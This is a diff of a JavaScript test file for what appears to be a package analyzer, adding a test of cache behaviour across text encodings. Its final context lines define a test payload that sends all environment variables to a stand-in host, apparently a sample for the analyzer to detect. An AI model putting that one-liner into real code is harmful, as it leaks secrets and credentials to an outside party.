@@ -75,6 +75,20 @@ describe('a result is the same', () => {
   );
 });
 
+test.each([
+  ['ASCII', 'exports.a = 1;\n'],
+  ['more than ASCII', 'exports.a = "\u00e4 \ud83d\ude00";\n'],
+  ['a byte order mark', '\ufeffexports.a = 1;\n'],
+])('a file has the facts of its text: %s', async (_name, text) => {
+  const first = session();
+  createJsAnalyzer(first, 'test')(text.replace('\ufeff', ''), { typescript: false, parts: false });
+  expect([first.hits, first.misses]).toEqual([0, 1]);
+
+  const second = session(first);
+  await analyze({ 'package.json': '{"name":"x","version":"1.0.0"}', 'index.js': text }, second);
+  expect([second.hits, second.misses]).toEqual([1, 0]);
+});
+
 describe('stage and verdict are never kept', () => {
   const PAYLOAD = `require('https').get('https://a.weir.test/' + JSON.stringify(process.env));`;
   const manifest = JSON.stringify({ name: 'x', version: '1.0.0' });
